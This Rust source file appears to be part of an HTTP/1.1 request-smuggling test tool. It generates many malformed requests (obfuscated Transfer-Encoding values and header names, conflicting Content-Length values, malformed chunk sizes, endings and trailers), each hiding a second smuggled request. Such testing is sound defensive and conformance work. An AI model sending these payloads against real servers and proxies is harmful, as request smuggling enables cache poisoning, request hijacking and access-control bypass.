//! Attempts by HTTP/1.1 on how a message is framed: codings, lengths, chunks.

use super::Attempt;
use super::http1::{SMUGGLED, chunk, post};

pub(super) fn attempts() -> Vec<Attempt> {
    [codings(), coding_names(), lengths(), chunk_sizes(), chunk_ends()].into_iter().flatten().collect()
}

/// A coding as it is sent, and the length of content: CL.TE and TE.CL, in either order, and without a length.
fn both_framings(name: &str, coding: &[u8], into: &mut Vec<Attempt>) {
    // Who goes by the coding sees a second request behind the last chunk.
    let behind = format!("0\r\n\r\n{SMUGGLED}");
    let by_length = format!("content-length: {}\r\n", behind.len());
    // Who goes by the length sees a second request within the chunk.
    let within = chunk(SMUGGLED);
    let by_chunk = format!("content-length: {}\r\n", within.find("\r\n").unwrap() + 2);
    for (family, length, body) in [("CL.TE", &by_length, &behind), ("TE.CL", &by_chunk, &within)] {
        let (length, body) = (length.as_bytes(), body.as_bytes());
        into.push(Attempt::http1(format!("{family} {name}"), post(&[length, coding].concat(), body)));
        into.push(Attempt::http1(
            format!("{family} {name}, coding first"),
            post(&[coding, length].concat(), body),
        ));
    }
    into.push(Attempt::http1(format!("TE alone {name}"), post(coding, chunk(SMUGGLED).as_bytes())));
    let old = [
        b"POST / HTTP/1.0\r\nhost: a.test\r\nconnection: keep-alive\r\n",
        coding,
        by_length.as_bytes(),
        b"\r\n",
        behind.as_bytes(),
    ];
    into.push(Attempt::http1(format!("1.0 {name}"), old.concat()));
}

fn codings() -> Vec<Attempt> {
    let values: [&[u8]; 40] = [
        b"chunked",
        b"Chunked",
        b"xchunked",
        b"chunkedx",
        b"\tchunked",
        b"chunked\t",
        b" chunked ",
        b"\x0bchunked",
        b"chunked\x0b",
        b"\x0cchunked",
        b"chunked\x0c",
        b"\x01chunked",
        b"chunked\x7f",
        b"chunked\0",
        b"\0chunked",
        b"chun ked",
        b"\"chunked\"",
        b"'chunked'",
        b"chunked;q=1",
        b"chunked ; x",
        b"chunked,",
        b",chunked",
        b"chunked, identity",
        b"identity, chunked",
        b"identity",
        b"gzip, chunked",
        b"chunked, gzip",
        b"chunked, chunked",
        b"chunked,cow",
        b"cow",
        b"",
        b"\xa0chunked",
        b"chunked\xa0",
        b"\x85chunked",
        b"chun\xe2\x84\xaaed",
        b"\r\n chunked",
        b"\r\n\tchunked",
        b"chunked\r\n , identity",
        b"\rchunked",
        b"chunked\r",
    ];
    let mut attempts = Vec::new();
    for value in values {
        let line = [b"transfer-encoding: ", value, b"\r\n"].concat();
        both_framings(&format!("{:?}", String::from_utf8_lossy(value)), &line, &mut attempts);
    }
    let twice: [&[u8]; 5] = [
        b"transfer-encoding: chunked\r\ntransfer-encoding: chunked\r\n",
        b"transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n",
        b"transfer-encoding: identity\r\ntransfer-encoding: chunked\r\n",
        b"transfer-encoding: chunked\r\ntransfer-encoding: cow\r\n",
        b"transfer-encoding: \r\ntransfer-encoding: chunked\r\n",
    ];
    for lines in twice {
        both_framings(&format!("{:?}", String::from_utf8_lossy(lines)), lines, &mut attempts);
    }
    attempts
}

/// The coding's name as some would read it. Only with a length that covers all: to those who do not know the name, it
/// is no coding.
fn coding_names() -> Vec<Attempt> {
    let names: [&[u8]; 26] = [
        b"Transfer-Encoding : ",
        b"Transfer-Encoding\t: ",
        b" Transfer-Encoding: ",
        b"\tTransfer-Encoding: ",
        b"Transfer_Encoding: ",
        b"transfer-encoding:",
        b"Transfer-Encoding\x0b: ",
        b"Transfer-Encoding\0: ",
        b"Transfer\0-Encoding: ",
        b"tRANSFER-eNCODING: ",
        b"Transfer Encoding: ",
        b"Transfer-Encod\xc4\xb1ng: ",
        b"x: y\nTransfer-Encoding: ",
        b"x: y\rTransfer-Encoding: ",
        b"x: y\r\r\nTransfer-Encoding: ",
        b"x: y\n\rTransfer-Encoding: ",
        b":Transfer-Encoding: ",
        b"Transfer-Encoding:: ",
        b"\"Transfer-Encoding\": ",
        b"Transfer.Encoding: ",
        b"Transfer-Encoding\r: ",
        b"Transfer-Encoding;: ",
        b"Transfer--Encoding: ",
        b"x:\r\nTransfer-Encoding:\r\n ",
        b"x: \r\n\r\nTransfer-Encoding: ",
        b"_Transfer_Encoding: ",
    ];
    let body = format!("0\r\n\r\n{SMUGGLED}");
    let length = format!("content-length: {}\r\n", body.len());
    let mut attempts = Vec::new();
    for name in names {
        let line = [name, b"chunked\r\n"].concat();
        let printable = String::from_utf8_lossy(name).into_owned();
        for fields in [[length.as_bytes(), &line].concat(), [&line, length.as_bytes()].concat()] {
            // A head that ends early leaves a second request to its sender.
            if !printable.contains("\n\r") {
                attempts.push(Attempt::http1(
                    format!("coding's name {printable:?}"),
                    post(&fields, body.as_bytes()),
                ));
            }
        }
    }
    attempts
}

/// Values of Content-Length that are not plain digits, or digits that are not the length.
fn odd_lengths(right: usize) -> Vec<String> {
    vec![
        format!("+{right}"),
        format!("-{right}"),
        format!("{right} "),
        format!("\t{right}"),
        format!("{right},{right}"),
        format!("{right}, 0"),
        format!("0, {right}"),
        format!("0x{right:x}"),
        format!("{right:x}h"),
        format!("{right}.0"),
        format!("{right}e0"),
        format!("0{right}"),
        format!("000000000000000000000000{right}"),
        format!("{right}\x0b"),
        format!("\x0c{right}"),
        format!("{right}\0"),
        format!("{right};"),
        format!("{right} 0"),
        format!("0 {right}"),
        format!("{right}_0"),
        format!("\"{right}\""),
        format!("{right}\r\n 0"),
        format!("\r\n {right}"),
        format!("{}", (1_u128 << 64) + right as u128),
        format!("{}", (1_u64 << 32) + right as u64),
        "-1".to_owned(),
        String::new(),
        " ".to_owned(),
        "abc".to_owned(),
        "\u{661}".to_owned(),
        "\u{ff11}".to_owned(),
        "1 1".to_owned(),
        "9223372036854775808".to_owned(),
        "99999999999999999999999".to_owned(),
        "0\r".to_owned(),
        "1\n0".to_owned(),
    ]
}

fn lengths() -> Vec<Attempt> {
    let right = SMUGGLED.len();
    let mut attempts = Vec::new();
    for value in &odd_lengths(right) {
        let odd = format!("content-length: {value}\r\n");
        for (family, fields) in [
            ("odd length", odd.clone()),
            ("odd length, then 0", format!("{odd}content-length: 0\r\n")),
            ("0, then odd length", format!("content-length: 0\r\n{odd}")),
            ("right length, then odd", format!("content-length: {right}\r\n{odd}")),
        ] {
            attempts.push(Attempt::http1(
                format!("{family} {value:?}"),
                post(fields.as_bytes(), SMUGGLED.as_bytes()),
            ));
        }
    }
    for (name, line) in [
        ("blank before the colon", "content-length : 0\r\n"),
        ("tab before the colon", "content-length\t: 0\r\n"),
        ("indented", " content-length: 0\r\n"),
        ("underscore", "content_length: 0\r\n"),
        ("NUL", "content-length\0: 0\r\n"),
        ("LF in a value", "x: y\ncontent-length: 0\r\n"),
        ("CR in a value", "x: y\rcontent-length: 0\r\n"),
        ("named by Connection", "connection: content-length\r\n"),
    ] {
        let fields = format!("content-length: {right}\r\n{line}");
        attempts.push(Attempt::http1(
            format!("second length: {name}"),
            post(fields.as_bytes(), SMUGGLED.as_bytes()),
        ));
    }
    attempts
}

fn chunk_sizes() -> Vec<Attempt> {
    let n = format!("{:x}", SMUGGLED.len());
    let sizes = [
        format!("{n} "),
        format!("{n}\t"),
        format!(" {n}"),
        format!("0x{n}"),
        format!("{n}h"),
        format!("+{n}"),
        format!("-{n}"),
        format!("0{n}"),
        format!("000000000000000000000000{n}"),
        format!("1000000000000000000{n}"),
        format!("fffffffffffffff{n}"),
        format!("{n}_"),
        format!("{n},0"),
        format!("{n}.0"),
        format!("{n};"),
        format!("{n};a"),
        format!("{n};a=b"),
        format!("{n};a=\"b\""),
        format!("{n} ; a=b"),
        format!("{n};a\0"),
        format!("{n};\r"),
        format!("{n}\r"),
        format!("{n}\n"),
        format!("{n};\n0"),
        format!("{n};a\n"),
        format!("{n}\x0b"),
        format!("{n}\0"),
        format!("{n}\r\r"),
        format!("\r{n}"),
        String::new(),
        " ".to_owned(),
        "g".to_owned(),
        "\u{ff11}".to_owned(),
        "0 1".to_owned(),
        "0x0".to_owned(),
        format!("{n};{}", "a".repeat(20_000)),
    ];
    let attempt = |size: &String| {
        let body = format!("{size}\r\n{SMUGGLED}\r\n0\r\n\r\n");
        let name = format!("size of a chunk {:?}", &size.chars().take(40).collect::<String>());
        Attempt::http1(name, post(b"transfer-encoding: chunked\r\n", body.as_bytes()))
    };
    sizes.iter().map(attempt).collect()
}

fn chunk_ends() -> Vec<Attempt> {
    let n = format!("{:x}", SMUGGLED.len());
    let bodies = [
        ("LF behind the size", format!("{n}\n{SMUGGLED}\r\n0\r\n\r\n")),
        ("CR behind the size", format!("{n}\r{SMUGGLED}\r\n0\r\n\r\n")),
        ("LF behind the content", format!("{n}\r\n{SMUGGLED}\n0\r\n\r\n")),
        ("CR behind the content", format!("{n}\r\n{SMUGGLED}\r0\r\n\r\n")),
        ("nothing behind the content", format!("{n}\r\n{SMUGGLED}0\r\n\r\n")),
        ("two bytes of another kind", format!("{n}\r\n{SMUGGLED}xx0\r\n\r\n")),
        ("LF CR behind the content", format!("{n}\r\n{SMUGGLED}\n\r0\r\n\r\n")),
        ("content longer than its size", format!("1\r\nx{SMUGGLED}\r\n0\r\n\r\n")),
        ("LF in the end", format!("{n}\r\n{SMUGGLED}\r\n0\n\n")),
        ("LF in the last line", format!("{n}\r\n{SMUGGLED}\r\n0\r\n\n")),
        ("no last CRLF", format!("{n}\r\n{SMUGGLED}\r\n0\r\n")),
        ("no last chunk", format!("{n}\r\n{SMUGGLED}\r\n")),
        ("a last chunk of two zeros", format!("{n}\r\n{SMUGGLED}\r\n00\r\n\r\n")),
        ("a last chunk with an extension", format!("{n}\r\n{SMUGGLED}\r\n0;a=b\r\n\r\n")),
        ("a last chunk with a blank", format!("{n}\r\n{SMUGGLED}\r\n0 \r\n\r\n")),
        ("trailer of a length", format!("0\r\ncontent-length: {}\r\n\r\n", SMUGGLED.len())),
        ("trailer of a coding", "0\r\ntransfer-encoding: chunked\r\n\r\n".to_owned()),
        ("trailer of a host", "0\r\nhost: b.test\r\n\r\n".to_owned()),
        ("trailer that is folded", "0\r\nx: y\r\n content-length: 9\r\n\r\n".to_owned()),
        ("trailer with LF", "0\r\nx: y\ncontent-length: 9\r\n\r\n".to_owned()),
        ("trailer with CR", "0\r\nx: y\rz: 1\r\n\r\n".to_owned()),
        ("trailer with NUL", "0\r\nx\0: y\r\n\r\n".to_owned()),
        ("trailer without a colon", format!("0\r\n{SMUGGLED}")),
        ("trailer of a request line", "0\r\nGET /smuggled HTTP/1.1\r\nx: y\r\n\r\n".to_owned()),
        ("trailers without end", format!("0\r\n{}\r\n", "x: y\r\n".repeat(20_000))),
    ];
    bodies
        .into_iter()
        .map(|(name, body)| {
            Attempt::http1(
                format!("chunks: {name}"),
                post(b"transfer-encoding: chunked\r\n", body.as_bytes()),
            )
        })
        .collect()
}
